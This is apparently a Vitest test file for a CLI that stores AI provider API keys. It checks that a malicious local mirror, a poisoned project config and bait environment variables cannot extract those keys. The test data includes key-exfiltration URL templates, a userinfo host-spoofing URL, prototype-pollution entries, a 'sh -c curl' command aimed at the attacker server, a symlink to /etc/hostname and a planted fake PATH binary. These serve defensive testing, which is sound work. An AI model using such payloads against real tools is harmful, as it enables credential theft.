import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { answerOf } from "../cli/envelope.ts";
import { key, setUp } from "./set-up.ts";

const servers: Server[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

const model = (id: string) => ({
  id,
  name: id,
  limit: { context: 1000, output: 1000 },
  cost: { input: 1, output: 1 },
  modalities: { input: ["text"], output: ["text"] },
});

/** A mirror of somebody who wants keys: its providers are reached at itself, and so is whatever it sends elsewhere. */
async function startThief() {
  const heard: string[] = [];
  const own: { url: string } = { url: "" };
  const provider = (id: string, env: string[], api: string) => ({
    id,
    name: id,
    env,
    api,
    npm: "@ai-sdk/openai-compatible",
    models: { [`${id}-1`]: model(`${id}-1`) },
  });
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    const { url } = own;
    if (!/api\.json|models\.json/.test(request.url ?? "")) {
      response.writeHead(307, { location: `${url}/elsewhere` }).end();
      return;
    }
    const catalog = {
      openai: provider("openai", ["OPENAI_API_KEY"], `${url}/v1`),
      // a path of the right host that a key would be written into
      groq: provider("groq", ["GROQ_API_KEY"], "https://api.groq.com/${GROQ_API_KEY}"),
      anthropic: provider(
        "anthropic",
        ["ANTHROPIC_API_KEY"],
        "https://api.anthropic.com@127.0.0.1/",
      ),
      azure: provider("azure", ["AZURE_API_KEY"], "https://${AZURE_API_KEY}.openai.azure.com/v1"),
      evil: provider("evil", ["OPENAI_API_KEY"], `${url}/\${OPENAI_API_KEY}/v1`),
    };
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify(request.url?.includes("models") === true ? {} : catalog));
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  own.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: own.url, heard };
}

/** A project that somebody has cloned. */
function makeProject(home: string, url: string): string {
  const project = join(home, "project");
  mkdirSync(join(project, ".git"), { recursive: true });
  mkdirSync(join(project, ".model-forge"));
  mkdirSync(join(project, "node_modules/.bin"), { recursive: true });
  const openai = `{
    "baseUrl": "${url}/v1",
    "headers": { "x-key": "\${OPENAI_API_KEY}" },
    "values": { "AZURE_RESOURCE_NAME": "127.0.0.1/" },
    "env": ["GROQ_API_KEY"],
    "command": ["sh", "-c", "curl ${url}"]
  }`;
  writeFileSync(
    join(project, ".model-forge/config.json"),
    `{
      "__proto__": { "providers": { "groq": { "baseUrl": "${url}" } } },
      "constructor": { "prototype": { "baseUrl": "${url}" } },
      "providers": { "openai": ${openai}, "groq": ${openai}, "mine": ${openai} },
      "catalog": { "source": "${url}", "overrides": { "openai": { "api": "${url}/v1" } } },
      "trusted": [{ "provider": "openai", "origin": "${url}" }],
      "settings": { "autoDetect": true }
    }`,
  );
  symlinkSync("/etc/hostname", join(project, ".model-forge/store.json"));
  return project;
}

const bait = (url: string) => ({
  OPENAI_BASE_URL: `${url}/v1`,
  OPENAI_API_BASE: `${url}/v1`,
  ANTHROPIC_BASE_URL: url,
  GROQ_BASE_URL: url,
  AWS_ENDPOINT_URL: url,
  AZURE_RESOURCE_NAME: `${url.slice(7)}/`,
  DATABRICKS_HOST: url.slice(7),
  HTTPS_PROXY: "http://127.0.0.1:1",
});

const secrets = {
  OPENAI_API_KEY: `${key}-openai`,
  GROQ_API_KEY: `${key}-groq`,
  ANTHROPIC_API_KEY: `${key}-anthropic`,
  AZURE_API_KEY: `${key}-azure`,
  DATABRICKS_TOKEN: `${key}-databricks`,
  MODELFORGE_EVIL_API_KEY: `${key}-evil`,
};

describe("a project, a mirror and an environment that want a key", () => {
  it("get none, and each attempt is named", async () => {
    const thief = await startThief();
    const { command, piped } = setUp({ ...secrets, ...bait(thief.url), MODELFORGE_URL: thief.url });
    piped(`${key}-stored`, "auth login openai --key-stdin");
    const project = makeProject(command.home, thief.url);
    const names = ["openai", "groq", "anthropic", "azure", "databricks", "evil"];
    for (const words of [names, ["--all", ...names], []]) {
      const line = ["auth", "status", "--check", "--json", ...words];
      const ran = await command.ask(line, {}, ["env", "-C", project]);
      const { result, warnings } = answerOf<{ provider: string; check: string | null }[]>({
        ...ran,
        code: 0,
      });
      expect(result.filter(({ check }) => check === "valid" || check === "refused")).toEqual([]);
      expect(ran.code).toBe(4);
      expect(`${ran.stdout}${ran.stderr}`).not.toMatch(/planted/i);
      const said = warnings.map(({ message }) => message).join("\n");
      expect(said).toContain(`OPENAI_API_KEY is not sent to ${thief.url}`);
      expect(said).toContain("GROQ_API_KEY is no setting of that provider");
      expect(said).toContain("ANTHROPIC_API_KEY is not sent to https://127.0.0.1");
      expect(said).toContain("AZURE_API_KEY is no setting of that provider");
      if (words.length > 0) expect(said).toContain("OPENAI_API_KEY is no setting of that provider");
      // what the project wants
      expect(said).toContain("catalog.source");
    }
    // the catalog was asked for, without anything
    expect(thief.heard.length).toBeGreaterThan(0);
    for (const one of thief.heard) expect(one).toMatch(/^GET \/(?:api|models)\.json /);
    expect(thief.heard.join("\n")).not.toMatch(/planted|authorization|x-api-key/i);
  });

  it("would be heard: a host that was trusted gets the key, and nobody behind it", async () => {
    const thief = await startThief();
    const { command, piped } = setUp({ ...bait(thief.url), MODELFORGE_URL: thief.url });
    piped(key, "auth login openai --key-stdin");
    expect(command.run(["auth", "trust", "openai", thief.url, "--yes"]).code).toBe(0);
    await command.ask(["auth", "status", "openai", "--check"]);
    const asked = thief.heard.filter((one) => !/^GET \/(?:api|models)\.json/.test(one));
    expect(asked).toHaveLength(1);
    expect(asked[0]).toContain(`GET /v1/models`);
    expect(asked[0]).toContain(key);
  });

  it("get no key of a command that a project has put into PATH", () => {
    const { command } = setUp();
    const project = makeProject(command.home, "http://127.0.0.1:1");
    const fake = join(project, "node_modules/.bin/op");
    writeFileSync(fake, "#!/bin/sh\necho ran >&2; echo sk-0123456789\n", { mode: 0o755 });
    for (const path of ["node_modules/.bin", `${project}/node_modules/.bin`, ".", ""]) {
      const PATH = `${path}:${process.env.PATH}`;
      const line = "modelforge auth login openai --command -- op read x";
      const ran = command.shellIn(project, line, { PATH });
      expect([path, ran.code, ran.stderr.includes("ran")]).toEqual([path, 2, false]);
    }
  });
});
